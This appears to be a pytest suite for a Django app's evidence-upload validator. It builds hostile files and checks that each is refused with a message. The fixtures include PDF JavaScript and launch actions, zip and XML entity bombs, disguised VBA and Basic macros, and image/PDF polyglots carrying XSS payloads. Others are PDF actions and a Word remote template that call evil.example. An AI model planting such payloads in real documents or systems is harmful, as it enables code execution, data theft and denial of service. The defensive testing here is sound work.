"""Hostile evidence, built in each test and sent through the Attach button: PDFs that
run code or carry files, office files that inflate past the limit or carry macros
under any name, and files that are two formats at once. Each is refused, with why."""

import io
import zipfile
from typing import Any

import pikepdf
import pytest

from maintenance.models import Evidence, Report
from maintenance.tests.test_evidence import PNG, attach, docx
from saduak.tests.hostile import BILLION_LAUGHS, lie_about_sizes, ole2_with_vba, package

DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}</Types>'
)


def pdf(build: Any = None, **save: Any) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if build:
            build(document)
        document.save(buffer, **save)
    return buffer.getvalue()


def refused(client: Any, report: Report, name: str, content: bytes) -> str:
    client.cookies["django_language"] = "en"
    page = attach(client, report, name, content)
    assert page.status_code == 200
    assert not Evidence.objects.exists()
    messages = [str(m) for m in page.context["messages"]]
    assert len(messages) == 1 and messages[0].startswith("Evidence not added: ")
    return messages[0].removeprefix("Evidence not added: ")


def javascript(document: Any) -> None:
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )


def launch(document: Any) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    document.pages[0].obj.AA = pikepdf.Dictionary(O=document.make_indirect(action))


def attachment(document: Any) -> None:
    document.attachments["tool.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00")


JAVASCRIPT = "The PDF carries JavaScript, which a reader may run when it is opened."
LAUNCH = "The PDF carries a launch action, which starts another program."
EMBEDDED = "The PDF carries embedded files. Attach each file on its own."


@pytest.mark.parametrize(
    ("build", "message"),
    [(javascript, JAVASCRIPT), (launch, LAUNCH), (attachment, EMBEDDED)],
    ids=["javascript", "launch", "embedded-file"],
)
def test_a_pdf_that_runs_code_or_carries_files_is_refused(
    client_as: Any, pattani_report: Report, build: Any, message: str
) -> None:
    client = client_as("staff.pattanitown")
    assert refused(client, pattani_report, "คำสั่ง.pdf", pdf(build)) == message


def test_hidden_javascript_is_found_too(client_as: Any, pattani_report: Report) -> None:
    """In a compressed object stream, its name written with an escape: no byte of the
    file says "JavaScript", but a reader runs it."""
    hidden = pdf(javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in hidden and b"/JS" not in hidden
    escaped = pdf(javascript).replace(b"/JavaScript", b"/J#61vaScript")
    client = client_as("staff.pattanitown")
    assert refused(client, pattani_report, "a.pdf", hidden) == JAVASCRIPT
    assert refused(client, pattani_report, "b.pdf", escaped) == JAVASCRIPT
    # The Thai message, as most people will read it.
    client.cookies["django_language"] = "th"
    page = attach(client, pattani_report, "a.pdf", hidden).content.decode()
    assert "JavaScript" in page and "ไม่ได้เพิ่มหลักฐาน" in page


def test_a_clean_pdf_is_kept(client_as: Any, pattani_report: Report) -> None:
    attach(client_as("staff.pattanitown"), pattani_report, "clean.pdf", pdf())
    assert Evidence.objects.get().kind == "pdf"


def test_a_damaged_or_locked_pdf_is_refused(client_as: Any, pattani_report: Report) -> None:
    client = client_as("staff.pattanitown")
    damaged = b"%PDF-1.4\n" + b"\x00garbage" * 20
    assert refused(client, pattani_report, "a.pdf", damaged) == (
        "The PDF is damaged and cannot be read."
    )
    locked = pdf(encryption=pikepdf.Encryption(owner="o", user="secret"))
    assert "protected by a password" in refused(client, pattani_report, "b.pdf", locked)


# --- office files ----------------------------------------------------------------------


def test_a_zip_bomb_is_refused_by_what_it_declares(
    client_as: Any, pattani_report: Report, settings: Any
) -> None:
    settings.UPLOAD_MAX_UNZIPPED_BYTES = 1_048_576
    bomb = package({"[Content_Types].xml": "<Types/>", "word/document.xml": "0" * 2_000_000})
    assert len(bomb) < 10_000
    message = refused(client_as("staff.pattanitown"), pattani_report, "แผน.docx", bomb)
    assert message.startswith("The file unpacks to more than 1 MB")


def test_a_zip_bomb_that_lies_about_its_size_is_refused(
    client_as: Any, pattani_report: Report, settings: Any
) -> None:
    settings.UPLOAD_MAX_UNZIPPED_BYTES = 1_048_576
    bomb = package({"[Content_Types].xml": "<Types/>", "word/document.xml": "0" * 2_000_000})
    liar = lie_about_sizes(bomb, 100)
    assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(liar)).infolist()) == 200
    message = refused(client_as("staff.pattanitown"), pattani_report, "แผน.docx", liar)
    assert message == "The file is damaged: its ZIP archive cannot be read."


def test_an_archive_of_too_many_parts_is_refused(
    client_as: Any, pattani_report: Report, settings: Any
) -> None:
    settings.UPLOAD_MAX_ZIP_ENTRIES = 50
    parts: dict[str, bytes | str] = {"[Content_Types].xml": "<Types/>"}
    parts.update({f"word/media/{n}.xml": "<a/>" for n in range(60)})
    message = refused(client_as("staff.pattanitown"), pattani_report, "a.docx", package(parts))
    assert message == "The file holds 61 parts; at most 50 are accepted."


MACROS = (
    "The document carries macros or other code that runs when it is opened. Save it "
    "without macros (as .docx, .xlsx or .pptx, not .docm, .xlsm or .pptm) or as PDF."
)
VBA = "application/vnd.ms-office.vbaProject"


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": ole2_with_vba()},
        # Renamed: a picture by its name, a VBA project by its bytes.
        {"word/media/image1.png": ole2_with_vba()},
        # Any name at all, declared as a VBA project in the list of parts.
        {
            "word/innocent.dat": b"\x00" * 16,
            "[Content_Types].xml": DOCX_TYPES.format(
                extra=f'<Override PartName="/word/innocent.dat" ContentType="{VBA}"/>'
            ),
        },
        # A macro-enabled document (.docm) saved under the name .docx.
        {
            "[Content_Types].xml": DOCX_TYPES.format(
                extra='<Override PartName="/word/document.xml" ContentType="application/'
                'vnd.ms-word.document.macroEnabled.main+xml"/>'
            )
        },
        # An Excel file with macros, embedded in the Word document.
        {
            "word/embeddings/sheet.xlsx": package(
                {"[Content_Types].xml": DOCX_TYPES.format(extra=""), "xl/vbaProject.bin": b"x"}
            )
        },
    ],
    ids=["vbaProject.bin", "renamed", "content-type", "docm", "embedded-xlsm"],
)
def test_an_office_file_with_macros_is_refused_under_any_name(
    client_as: Any, pattani_report: Report, parts: dict[str, bytes | str]
) -> None:
    document = {
        "[Content_Types].xml": DOCX_TYPES.format(extra=""),
        "word/document.xml": "<w:document/>",
        **parts,
    }
    client = client_as("staff.pattanitown")
    assert refused(client, pattani_report, "แผน.docx", package(document)) == MACROS


def test_an_opendocument_macro_is_refused(client_as: Any, pattani_report: Report) -> None:
    odt = package(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<office:document-content/>",
            # Renamed away from Basic/: found by what it is.
            "lib/Module1.xml": '<script:module xmlns:script="http://openoffice.org/2000/script"'
            ' script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>',
        }
    )
    assert refused(client_as("staff.pattanitown"), pattani_report, "a.odt", odt) == MACROS


def test_an_old_word_file_with_macros_is_refused(client_as: Any, pattani_report: Report) -> None:
    doc = ole2_with_vba() + "WordDocument".encode("utf-16-le")
    assert refused(client_as("staff.pattanitown"), pattani_report, "a.doc", doc) == MACROS


def test_entity_expansion_in_an_office_file_is_refused(
    client_as: Any, pattani_report: Report
) -> None:
    bomb = package(
        {
            "[Content_Types].xml": BILLION_LAUGHS + "<Types>&lol9;</Types>",
            "word/document.xml": "<w:document/>",
        }
    )
    message = refused(client_as("staff.pattanitown"), pattani_report, "a.docx", bomb)
    assert "document type declaration" in message


def test_a_clean_word_file_is_kept(client_as: Any, pattani_report: Report) -> None:
    attach(client_as("staff.pattanitown"), pattani_report, "แผน.docx", docx())
    assert Evidence.objects.get().kind == "docx"


# --- two formats at once -----------------------------------------------------------------

POLYGLOT = (
    "“{name}” also holds web-page or script code: a file that is two formats at once is "
    "not kept. Export or scan the document again."
)


def png_with_text(text: bytes) -> bytes:
    import struct
    import zlib

    chunk = b"tEXt" + b"Comment\x00" + text
    return (
        PNG[:8]
        + struct.pack(">I", len(text) + 8)
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
        + PNG[8:]
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("ป้าย.png", png_with_text(b"<script>alert(document.cookie)</script>")),
        ("ป้าย.png", png_with_text(b"<HTML><body onload=alert(1)>")),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 32 + b"<iframe src=//evil>"),
        ("คำสั่ง.pdf", b"<html><script>alert(1)</script>" + pdf()),
        ("คำสั่ง.pdf", pdf() + b"<!DOCTYPE html><html><script>x()</script>"),
        ("ป้าย.png", png_with_text(b"<img src=x onerror=alert(document.domain)>")),
        ("ป้าย.png", png_with_text(b"<svg/onload=alert(1)>")),
        ("ป้าย.png", png_with_text(b'<meta http-equiv="refresh" content="0;url=//evil">')),
        ("ป้าย.png", png_with_text("<script>alert(1)</script>".encode("utf-16-le"))),
        ("คำสั่ง.pdf", pdf() + b"<img src=x onerror=alert(1)>"),
    ],
    ids=[
        "png-script",
        "png-html",
        "jpeg-iframe",
        "pdf-starting-as-html",
        "pdf-ending-as-html",
        "png-img-onerror",
        "png-svg-onload",
        "png-meta-refresh",
        "png-utf16-script",
        "pdf-ending-with-img-onerror",
    ],
)
def test_a_file_that_is_two_formats_at_once_is_refused(
    client_as: Any, pattani_report: Report, name: str, content: bytes
) -> None:
    client = client_as("staff.pattanitown")
    assert refused(client, pattani_report, name, content) == POLYGLOT.format(name=name)


# --- reaching out when opened ------------------------------------------------------------

REACHES_OUT = (
    "The PDF opens a web address or another file, or sends its form away, by itself. "
    "Save or print it again as a plain PDF."
)


def action(**entries: Any) -> Any:
    def build(document: Any) -> None:
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(**entries))

    return build


@pytest.mark.parametrize(
    "build",
    [
        action(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/track")),
        action(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf")),
        action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/")),
        action(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf")),
    ],
    ids=["opens-a-web-address", "opens-a-network-file", "submits-its-form", "imports-data"],
)
def test_a_pdf_that_reaches_out_by_itself_is_refused(
    client_as: Any, pattani_report: Report, build: Any
) -> None:
    client = client_as("staff.pattanitown")
    assert refused(client, pattani_report, "คำสั่ง.pdf", pdf(build)) == REACHES_OUT


def test_a_pdf_with_a_link_to_click_is_kept(client_as: Any, pattani_report: Report) -> None:
    def link(document: Any) -> None:
        document.pages[0].obj.Annots = document.make_indirect(
            pikepdf.Array(
                [
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.Link,
                        Rect=[0, 0, 100, 20],
                        A=pikepdf.Dictionary(
                            S=pikepdf.Name.URI, URI=pikepdf.String("https://www.opdc.go.th/")
                        ),
                    )
                ]
            )
        )

    attach(client_as("staff.pattanitown"), pattani_report, "คำสั่ง.pdf", pdf(link))
    assert Evidence.objects.get().kind == "pdf"


REMOTE_TEMPLATE = (
    "The document fetches a template, an object or a frame from elsewhere when it is "
    "opened (a way to bring macros in). Save it again with everything inside it, or as PDF."
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
TEMPLATE_TYPE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
LINK_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def test_a_word_file_that_fetches_a_remote_template_is_refused(
    client_as: Any, pattani_report: Report
) -> None:
    document = package(
        {
            "[Content_Types].xml": DOCX_TYPES.format(extra=""),
            "word/document.xml": "<w:document/>",
            "word/_rels/settings.xml.rels": RELS.format(
                f'<Relationship Id="rId1" Type="{TEMPLATE_TYPE}" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/>'
            ),
        }
    )
    client = client_as("staff.pattanitown")
    assert refused(client, pattani_report, "แผน.docx", document) == REMOTE_TEMPLATE


def test_a_word_file_with_a_hyperlink_is_kept(client_as: Any, pattani_report: Report) -> None:
    document = package(
        {
            "[Content_Types].xml": DOCX_TYPES.format(extra=""),
            "word/document.xml": "<w:document/>",
            "word/_rels/document.xml.rels": RELS.format(
                f'<Relationship Id="rId1" Type="{LINK_TYPE}" '
                'Target="https://www.opdc.go.th/" TargetMode="External"/>'
            ),
        }
    )
    attach(client_as("staff.pattanitown"), pattani_report, "แผน.docx", document)
    assert Evidence.objects.get().kind == "docx"
